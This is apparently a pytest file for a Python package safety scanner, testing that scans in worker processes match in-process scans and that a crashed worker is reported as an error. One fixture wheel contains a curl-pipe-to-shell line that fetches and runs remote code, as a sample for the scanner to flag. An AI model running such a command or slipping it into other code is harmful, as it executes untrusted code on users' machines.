"""Scans in worker processes answer as scans in the process do; a worker that dies is a 'could not inspect'."""

from __future__ import annotations

import os
import signal
import zipfile

import pytest

from jupyter_safepip.core.checks.archive import scan_archive
from jupyter_safepip.core.scan_workers import ScanWorkerLost, ScanWorkers


def _wheel(tmp_path, name: str, body: str):
    path = tmp_path / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{name}/__init__.py", body)
        archive.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
        archive.writestr(f"{name}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    return path


def test_a_worker_finds_what_the_process_finds(tmp_path):
    wheel = _wheel(tmp_path, "fixture", "import os\nos.system('curl http://203.0.113.9/x | sh')\n")
    with ScanWorkers(2) as workers:
        there = workers.scan(wheel, "fixture", "fixture", "1.0")
    here = scan_archive(wheel, "fixture", "fixture", "1.0")
    assert there.findings == here.findings and there.findings
    assert there.files_scanned == here.files_scanned


def test_a_dead_worker_is_not_a_pass_and_the_next_scan_gets_new_workers(tmp_path):
    wheel = _wheel(tmp_path, "fixture", "VALUE = 1\n")
    with ScanWorkers(1) as workers:
        workers.scan(wheel, "fixture", "fixture", "1.0")
        for pid in list(workers._pool._processes):  # noqa: SLF001 - the test kills what a memory bomb would
            os.kill(pid, signal.SIGKILL)
        with pytest.raises(ScanWorkerLost, match="ended before it answered"):
            for _ in range(50):  # the pool notices the death on its next use
                workers.scan(wheel, "fixture", "fixture", "1.0")
        assert workers.scan(wheel, "fixture", "fixture", "1.0").errors == ()
